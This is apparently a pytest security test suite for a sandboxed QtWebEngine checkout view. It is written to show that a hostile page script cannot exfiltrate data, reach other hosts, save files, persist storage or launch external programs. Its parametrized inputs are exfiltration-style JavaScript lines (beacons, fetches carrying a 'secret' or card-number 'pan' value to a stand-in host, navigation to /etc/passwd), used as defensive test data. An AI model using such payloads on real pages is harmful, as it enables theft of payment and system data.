"""What a hostile script in the page can't do."""

import logging
import os
import signal
from collections.abc import Callable
from pathlib import Path

import pytest
from PySide6.QtCore import QMimeData, QObject, QPoint, Qt, QUrl, Slot
from PySide6.QtGui import QDesktopServices, QDragEnterEvent, QDragMoveEvent, QDropEvent
from PySide6.QtWebEngineCore import QWebEngineDownloadRequest
from PySide6.QtWebEngineWidgets import QWebEngineView
from PySide6.QtWidgets import QApplication, QWidget
from pytestqt.qtbot import QtBot

from tests.ui.webview.conftest import DoubleServer, Till
from ui.webview.checkout_view import CheckoutView
from ui.webview.model import PageConfig

MakeTill = Callable[..., Till]
_State = QWebEngineDownloadRequest.DownloadState
OVER = (_State.DownloadCancelled, _State.DownloadInterrupted)


class UrlCatcher(QObject):
    """Stands where the system would start another program."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    @Slot(QUrl)
    def caught(self, url: QUrl) -> None:
        self.seen.append(url.toString())


@pytest.fixture
def catch_urls() -> UrlCatcher:
    return UrlCatcher()


def attempt(page: Till, script: str) -> None:
    """Run a hostile script, then wait until the page has had time to act on it."""
    page.js(f"[(() => {{ {script} }})()]")
    page.js("[setTimeout(() => { window.later = 1 }, 150)]")
    page.wait_js("window.later === 1")


@pytest.mark.parametrize(
    "script",
    [
        "fetch('URL/fetch?secret=1').catch(() => 0)",
        "fetch('URL/post', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)",
        "new Image().src = 'URL/image'",
        "navigator.sendBeacon('URL/beacon', 'x')",
        "new EventSource('URL/events')",
        "const x = new XMLHttpRequest(); x.open('GET', 'URL/xhr'); x.send()",
        "document.head.append(Object.assign(document.createElement('script'), {src: 'URL/js'}))",
        "document.head.append(Object.assign(document.createElement('link'),"
        " {rel: 'stylesheet', href: 'URL/css'}))",
        "document.head.append(Object.assign(document.createElement('link'),"
        " {rel: 'prefetch', href: 'URL/prefetch'}))",
        "document.body.style.backgroundImage = 'url(URL/background)'",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL/frame'}))",
        "document.body.append(Object.assign(document.createElement('iframe'),"
        " {srcdoc: '<img src=URL/inner>'}))",
        "document.body.append(Object.assign(document.createElement('embed'), {src: 'URL/embed'}))",
        "document.body.append(Object.assign(document.createElement('video'), {src: 'URL/video'}))",
        "const f = document.createElement('form'); f.method = 'post'; f.action = 'URL/form';"
        " document.body.append(f); f.submit()",
        "location.href = 'URL/main'",
        "const a = document.createElement('a'); a.href = 'URL/file'; a.download = 'x';"
        " document.body.append(a); a.click()",
        "const a = document.createElement('a'); a.href = 'URL/ping'; a.ping = 'URL/ping2';"
        " document.body.append(a); a.click()",
        "window.open('URL/window')",
        "new Worker('URL/worker')",
        "try { new WebSocket('URL/socket'.replace('http', 'ws')) } catch { }",
        "history.pushState(0, '', '/x'); location.href = 'URL/pushed'",
    ],
)
def test_nothing_reaches_another_host(till: MakeTill, elsewhere: DoubleServer, script: str) -> None:
    page = till()
    attempt(page, f"try {{ {script.replace('URL', elsewhere.url)} }} catch {{ }}")
    assert elsewhere.asked == []
    assert page.js("document.getElementById('pay') !== null") is True


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        ("location.href = 'https://elsewhere.invalid/a?pan=42424242'", "navigation"),
        ("location.href = 'file:///etc/passwd'", "navigation"),
        ("location.href = 'https://till.invalid/till/complete'", "navigation"),
        ("location.href = 'https://till.invalid/till/shutdown?t=x'", "navigation"),
        ("document.body.append(Object.assign(document.createElement('iframe'),"
         " {src: 'https://till.invalid/till/complete'}))", "frame"),
    ],
)  # fmt: skip
def test_refusals_are_counted_and_logged_without_what_they_carried(
    till: MakeTill, script: str, kind: str, caplog: pytest.LogCaptureFixture, qtbot: QtBot
) -> None:
    page = till()
    heard: list[str] = []
    page.view.finished.connect(heard.append)
    with caplog.at_level(logging.INFO):
        page.js(f"[(() => {{ {script} }})()]")
        if kind == "navigation":
            qtbot.waitUntil(lambda: page.view.blocked.get(kind, 0) == 1)
    attempt(page, "")
    assert heard == []
    assert "42424242" not in caplog.text
    assert "passwd" not in caplog.text


def test_an_event_with_an_unknown_name_is_refused_even_with_the_pages_token(
    till: MakeTill, qtbot: QtBot
) -> None:
    page = till()
    heard: list[str] = []
    page.view.finished.connect(heard.append)
    page.view.failed.connect(heard.append)
    token = page.js("JSON.parse(document.getElementById('config').text).token")
    for count, url in enumerate(
        (
            f"/till/paid?t={token}",
            f"/till/complete?t={token}&amount=0",
            f"/till/complete?t={token}&t=x",
            f"/till/failed?t={token}&reason=renderer",
            f"/till/failed?t={token}",
            f"/till/complete/?t={token}",
            f"/till/../till/paid?t={token}",
        ),
        start=1,
    ):
        page.js(f"[location.href = 'https://till.invalid{url}']")
        qtbot.waitUntil(lambda count=count: page.view.blocked.get("navigation", 0) == count)
    assert heard == []


def test_the_gate_stands_behind_the_pages_own_rules(
    qtbot: QtBot, config: Callable[..., PageConfig], elsewhere: DoubleServer
) -> None:
    """With the content security policy gone, the interceptor alone still lets nothing out."""
    view = CheckoutView()
    with qtbot.waitSignal(view.ready, timeout=40_000):
        view.preload(config())
    page = view.findChild(QWebEngineView).page()
    # The same page, its gate kept, without a policy in its markup.
    page._source = type(page._source)(
        html="<body>bare", url=page._source.url, token=page._source.token
    )
    page.load_own()
    till = Till(qtbot, view)
    till.wait_js("document.body !== null && document.body.textContent === 'bare'")
    before = dict(view.blocked)
    script = """
        fetch('URL/fetch?pan=4242').catch(() => 0);
        new Image().src = 'URL/image';
        try { new WebSocket('URL/socket'.replace('http', 'ws')) } catch { }
        navigator.sendBeacon('URL/beacon', 'x');
        document.head.append(Object.assign(document.createElement('script'), {src: 'URL/js'}));
        document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL/f'}));
    """
    attempt(till, script.replace("URL", elsewhere.url))
    wanted = {"xhr", "image", "ping", "script", "frame", "websocket"}
    qtbot.waitUntil(
        lambda: all(view.blocked.get(kind, 0) > before.get(kind, 0) for kind in wanted),
        timeout=40_000,
    )
    assert elsewhere.asked == []
    view.shutdown()
    view.deleteLater()


@pytest.mark.parametrize(
    "script",
    ["alert('x')", "confirm('x')", "prompt('x')", "print()",
     "document.documentElement.requestFullscreen().catch(() => 0)",
     "navigator.geolocation.getCurrentPosition(() => 0)",
     "navigator.mediaDevices.getUserMedia({video: true}).catch(() => 0)",
     "Notification.requestPermission()",
     "const i = document.createElement('input'); i.type = 'file'; document.body.append(i);"
     " i.click()"],
)  # fmt: skip
def test_no_dialog_and_no_permission(till: MakeTill, script: str) -> None:
    page = till()
    attempt(page, f"try {{ {script} }} catch {{ }}")
    assert page.js("document.fullscreenElement === null") is True
    assert page.view.isVisible()


@pytest.mark.parametrize(
    "way",
    [
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL/file'}))",
        "save('URL/file')", "save('data:text/plain,planted')",
        "save(URL.createObjectURL(new Blob(['planted'])))",
    ],
    ids=["a frame that may be there", "an address", "its own text", "what it made"],
)  # fmt: skip
def test_no_file_is_kept(
    till: MakeTill, double: DoubleServer, qtbot: QtBot, tmp_path: Path, way: str
) -> None:
    """A frame of a host that may be shown, as a bank's, is where a file can come from."""
    double.files["/file"] = b"planted"
    page = till()
    profile = page.view.findChild(QWebEngineView).page().profile()
    profile.setDownloadPath(str(tmp_path))
    told: list[QWebEngineDownloadRequest] = []
    profile.downloadRequested.connect(told.append)
    saving = """const save = (href) => { const a = document.createElement('a'); a.href = href;
      a.download = 'kept.bin'; document.body.append(a); a.click(); };"""
    attempt(page, saving + way.replace("'URL/", f"'{double.url}/"))
    if way.startswith("document"):
        qtbot.waitUntil(lambda: bool(told), timeout=40_000)
    qtbot.wait(300)
    assert [one.state() for one in told if one.state() not in OVER] == []
    assert list(tmp_path.iterdir()) == []
    assert page.view.isVisible()


def dropped(window: QWidget, place: QPoint) -> bool:
    """Whether a file and a text that are dragged over the window and let go there are taken."""
    carried = QMimeData()
    carried.setUrls([QUrl("file:///etc/hostname")])
    carried.setText("4242 4242 4242 4242")
    copy, left = Qt.DropAction.CopyAction, Qt.MouseButton.LeftButton
    none = Qt.KeyboardModifier.NoModifier
    handle = window.windowHandle()
    begun = QDragEnterEvent(place, copy, carried, left, none)
    over = QDragMoveEvent(place, copy, carried, left, none)
    let_go = QDropEvent(place, copy, carried, left, none)
    for event in (begun, over, let_go):
        QApplication.sendEvent(handle, event)
    return over.isAccepted() or let_go.isAccepted()


def test_nothing_can_be_dropped_on_the_page(till: MakeTill, qtbot: QtBot) -> None:
    page = till()
    page.js("[addEventListener('dragenter', () => { window.dragged = 1 })]")
    assert not dropped(page.view.window(), page.view.rect().center())
    attempt(page, "")
    assert page.js("window.dragged === undefined") is True
    assert "/checkout" in page.js("location.href")

    plain = QWebEngineView()
    qtbot.addWidget(plain)
    plain.resize(400, 300)
    plain.show()
    with qtbot.waitSignal(plain.loadFinished):
        plain.setHtml("<p>plain</p>")
    assert dropped(plain, plain.rect().center()), "this way of dropping leads somewhere"
    plain.page().deleteLater()


def test_no_socket_beside_the_gate(till: MakeTill) -> None:
    page = till()
    assert page.js("typeof RTCPeerConnection") == "undefined"


def test_what_the_page_logs_is_not_written_down(
    till: MakeTill, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG):
        page = till()
        page.js("[console.error('cs_test_double_secret_x', '4242424242424242')]")
        attempt(page, "")
    assert "page_console" in caplog.text
    assert "secret" not in caplog.text
    assert "42424242" not in caplog.text


def test_nothing_is_kept_on_disk(till: MakeTill) -> None:
    page = till()
    profile = page.view.findChild(QWebEngineView).page().profile()
    assert profile.isOffTheRecord()
    assert not profile.isSpellCheckEnabled()


_KEEP = """
    localStorage.setItem('who', 'zoe');
    sessionStorage.setItem('who', 'zoe');
    document.cookie = 'who=zoe; max-age=9999';
    const opening = indexedDB.open('who', 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore('who');
    opening.onsuccess = () => {
      const write = opening.result.transaction('who', 'readwrite');
      write.objectStore('who').put('zoe', 'zoe');
      write.oncomplete = () => { window.keptByDatabase = true; };
    };
    caches.open('who').then((cache) => cache.put('/who', new Response('zoe')))
      .then(() => { window.keptByCache = true; });
"""
_LOOK = """
    Promise.all([indexedDB.databases(), caches.keys()])
      .then(([databases, names]) => { window.left = [databases.length, names.length]; });
"""


def test_each_checkout_starts_without_a_memory(till: MakeTill) -> None:
    page = till()
    attempt(page, _KEEP)
    page.wait_js("window.keptByDatabase && window.keptByCache")
    attempt(page, _LOOK)
    page.wait_js("window.left !== undefined")
    assert page.js("window.left") == [1, 1]  # it can see what there is
    page.view.shutdown()
    other = till()
    kept = "[localStorage.getItem('who'), sessionStorage.getItem('who'), document.cookie]"
    assert other.js(kept) == [None, None, ""]
    attempt(other, _LOOK)
    other.wait_js("window.left !== undefined")
    assert other.js("window.left") == [0, 0]


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="Windows ends processes otherwise")
def test_a_killed_renderer_is_told(till: MakeTill, qtbot: QtBot) -> None:
    page = till()
    pid = page.view.findChild(QWebEngineView).page().renderProcessPid()
    with qtbot.waitSignal(page.view.failed, timeout=40_000) as seen:
        os.kill(pid, signal.SIGKILL)
    assert seen.args == ["renderer"]
    assert page.view.is_over


@pytest.mark.parametrize("scheme", ["mailto", "tel", "ftp", "x-other-app"])
def test_no_other_program_is_started(till: MakeTill, scheme: str, catch_urls: UrlCatcher) -> None:
    page = till()
    QDesktopServices.setUrlHandler(scheme, catch_urls, "caught")
    try:
        attempt(
            page,
            f"const a = document.createElement('a'); a.href = '{scheme}:a'; a.id = 'link';"
            " a.textContent = 'xxxxxxxxxxxx'; document.body.prepend(a)",
        )
        page.click("#link")
        attempt(page, "")
    finally:
        QDesktopServices.unsetUrlHandler(scheme)
    assert catch_urls.seen == []
